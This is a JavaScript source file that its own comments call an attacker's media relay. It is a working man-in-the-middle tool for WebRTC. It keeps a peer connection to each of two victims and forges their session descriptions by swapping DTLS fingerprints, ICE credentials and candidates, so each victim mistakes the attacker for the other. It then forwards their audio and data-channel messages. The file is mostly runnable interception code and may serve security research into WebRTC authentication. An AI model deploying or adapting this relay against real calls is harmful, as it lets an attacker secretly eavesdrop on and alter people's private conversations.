// SPDX-License-Identifier: GPL-2.0-or-later
// An attacker's media relay: a peer connection towards each victim, in a browser or in Node, and descriptions altered
// so that each victim takes the attacker for the other one.
(function (root) {
    'use strict';

    const OTHER = { alice: 'bob', bob: 'alice' };
    const value = (sdp, key) => (new RegExp(`^a=${key}:(.*)$`, 'm').exec(sdp) || ['', ''])[1].trim();
    const bare = ({ candidate, sdpMid, sdpMLineIndex }) => ({ candidate, sdpMid, sdpMLineIndex });
    const put = (sdp, key, text) => sdp.replace(new RegExp(`^a=${key}:[^\\r\\n]*`, 'gm'), `a=${key}:${text}`);

    /** change: "keep-origin" alters fingerprint, ICE credentials and candidates, and leaves all else as it was;
     *  "keep-ice" leaves the ICE credentials as well; "rewrite" sends the attacker's own description instead. */
    class Relay {
        constructor(PeerConnection, change, send, note) {
            Object.assign(this, { change, send, note, relayed: 0, channels: {}, unsent: { alice: [], bob: [] } });
            this.waiting = { alice: [], bob: [] };
            this.work = Promise.resolve();
            this.pc = {};
            for (const side of ['alice', 'bob'])
                this.pc[side] = this.connection(new PeerConnection({ iceServers: [] }), side);
        }

        connection(pc, side) {
            pc.onicecandidate = event => event.candidate &&
                this.send(side, { type: 'candidate', candidate: bare(event.candidate) });
            pc.ondatachannel = event => this.join(side, event.channel);
            pc.ontrack = event => this.pass(side, event);
            pc.onconnectionstatechange = () => this.note(`towards ${side}: ${pc.connectionState}`);
            return pc;
        }

        /** Media of one side goes out to the other. */
        pass(side, { track, streams }) {
            this.relayed++;
            if (typeof document !== 'undefined') {
                const element = document.createElement('audio');
                element.muted = true;
                element.srcObject = new MediaStream([track]);
                element.play().catch(() => {});
            }
            this.pc[OTHER[side]].addTrack(track, ...(streams || []));
        }

        join(side, channel) {
            this.channels[side] = channel;
            channel.onmessage = ({ data }) => {
                this.relayed++;
                const other = this.channels[OTHER[side]];
                if (other && other.readyState === 'open')
                    other.send(data);
                else
                    this.unsent[OTHER[side]].push(data);
            };
            channel.onopen = () => this.unsent[side].splice(0).forEach(data => channel.send(data));
            if (channel.readyState === 'open')
                channel.onopen();
        }

        /** The attacker's own description, told so that the victim believes it comes from the other one. */
        forge(original, own) {
            if (this.change === 'rewrite')
                return own;
            let forged = put(original, 'fingerprint', value(own, 'fingerprint'));
            forged = forged.replace(/^a=(candidate:[^\r\n]*|end-of-candidates)\r?\n/gm, '');
            if (this.change === 'keep-origin')
                forged = put(put(forged, 'ice-ufrag', value(own, 'ice-ufrag')), 'ice-pwd', value(own, 'ice-pwd'));
            return forged;
        }

        /** With "keep-ice" the attacker's own ICE agent takes the credentials that the other victim announced. */
        adopt(original, own) {
            if (this.change !== 'keep-ice')
                return own;
            return put(put(own, 'ice-ufrag', value(original, 'ice-ufrag')), 'ice-pwd', value(original, 'ice-pwd'));
        }

        /** What a victim sent; one message after the other. */
        receive(side, message) {
            const complain = error => this.note(`${message.type}: ${error}`);
            this.work = this.work.then(() => this.handle(side, message)).catch(complain);
            return this.work;
        }

        async handle(side, { type, sdp, candidate }) {
            if (type === 'candidate') {
                if (!candidate || !candidate.candidate)
                    return;
                if (this.pc[side].remoteDescription)
                    await this.pc[side].addIceCandidate(bare(candidate));
                else
                    this.waiting[side].push(bare(candidate));
                return;
            }
            const other = OTHER[side];
            await this.pc[side].setRemoteDescription({ type, sdp });
            for (const found of this.waiting[side].splice(0))
                await this.pc[side].addIceCandidate(found);
            if (type === 'offer' && /^m=application/m.test(sdp) && !this.channels[other])
                this.join(other, this.pc[other].createDataChannel('chat'));
            const made = type === 'offer' ? await this.pc[other].createOffer() : await this.pc[other].createAnswer();
            const own = this.adopt(sdp, made.sdp);
            this.send(other, { type, sdp: this.forge(sdp, own) });
            await this.pc[other].setLocalDescription({ type, sdp: own });
        }

        report() {
            const of = side => {
                const description = this.pc[side].localDescription;
                return description ? value(description.sdp, 'fingerprint') : '';
            };
            return { relayed: this.relayed, local: [of('alice'), of('bob')].filter(Boolean) };
        }
    }

    root.Relay = Relay;
    if (typeof module !== 'undefined')
        module.exports = { Relay };
})(typeof window === 'undefined' ? globalThis : window);
